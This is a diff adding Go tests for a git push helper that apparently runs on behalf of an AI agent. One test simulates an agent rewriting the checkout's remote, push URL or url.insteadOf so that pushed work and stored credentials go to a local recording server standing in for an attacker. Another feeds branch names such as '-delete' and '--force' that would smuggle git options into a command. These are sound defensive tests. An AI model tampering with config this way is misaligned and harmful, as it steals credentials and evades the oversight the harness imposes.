@@ -263,3 +263,76 @@ func TestRedact(t *testing.T) {
 		t.Fatalf("clone error: %v", err)
 	}
 }
+
+// An action (an agent) may rewrite the checkout's config: the origin's
+// URL, a url.insteadOf, or drop the remote. The run's work and the
+// Secret's credentials still go to the configured URL and nowhere else.
+func TestPushGoesToTheConfiguredURLOnly(t *testing.T) {
+	for _, tc := range []struct {
+		name   string
+		tamper func(t *testing.T, dir, evil string)
+	}{
+		{"origin rewritten", func(t *testing.T, dir, evil string) {
+			gitIn(t, dir, "remote", "set-url", "origin", evil)
+		}},
+		{"push URL of origin", func(t *testing.T, dir, evil string) {
+			gitIn(t, dir, "remote", "set-url", "--push", "origin", evil)
+		}},
+		{"insteadOf", func(t *testing.T, dir, evil string) {
+			gitIn(t, dir, "config", "url."+evil+".insteadOf", "http://")
+		}},
+		{"origin removed", func(t *testing.T, dir, evil string) {
+			gitIn(t, dir, "remote", "remove", "origin")
+		}},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			root := repo(t)
+			url := server(t, root, "loop", "s3cret") + "/project.git"
+			auth := authDir(t, map[string]string{"username": "loop", "password": "s3cret"})
+			// The place an agent would rather send the work and the
+			// credentials to: a server that records every request.
+			var stolen []string
+			evilSrv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+				u, p, _ := r.BasicAuth()
+				stolen = append(stolen, r.URL.Path+" "+u+":"+p)
+				http.Error(w, "no", http.StatusForbidden)
+			}))
+			t.Cleanup(evilSrv.Close)
+			evil := evilSrv.URL + "/stolen.git"
+			dir := filepath.Join(t.TempDir(), "repo")
+			ctx := context.Background()
+			cloned, err := Clone(ctx, Op{URL: url, Dir: dir, AuthDir: auth}, io.Discard)
+			must(t, err)
+			must(t, os.WriteFile(filepath.Join(dir, "a.txt"), []byte("work\n"), 0o644))
+			tc.tamper(t, dir, evil)
+
+			pushed, err := Push(ctx, Op{URL: url, Dir: dir, AuthDir: auth, Branch: "looprun/w", Base: cloned.Commit}, io.Discard)
+			if err != nil {
+				t.Fatalf("push: %v", err)
+			}
+			if len(stolen) > 0 {
+				t.Fatalf("the push reached the URL the checkout named: %q", stolen)
+			}
+			if got := gitIn(t, filepath.Join(root, "project.git"), "rev-parse", "looprun/w"); got != pushed.Commit {
+				t.Fatalf("the configured repository's branch is at %s, pushed %s", got, pushed.Commit)
+			}
+		})
+	}
+}
+
+func TestCheckBranch(t *testing.T) {
+	for _, ok := range []string{"main", "looprun/fix-1", "feature/a.b", "x-HEAD"} {
+		if err := CheckBranch(ok); err != nil {
+			t.Errorf("%q: %v", ok, err)
+		}
+	}
+	for _, bad := range []string{"", "HEAD", "-delete", "--force", "a..b", "a b", "a~1", "x:y", "x@{1}", "a/", "/a", "a.lock", ".hidden", "a\\b", "a*", "a\x7f"} {
+		if err := CheckBranch(bad); err == nil {
+			t.Errorf("%q: accepted", bad)
+		}
+	}
+	// Push refuses it before it opens anything.
+	if _, err := Push(context.Background(), Op{URL: "/nowhere", Dir: "/nowhere", Branch: "HEAD"}, io.Discard); err == nil || !strings.Contains(err.Error(), "not a branch name") {
+		t.Fatalf("push to HEAD: %v", err)
+	}
+}
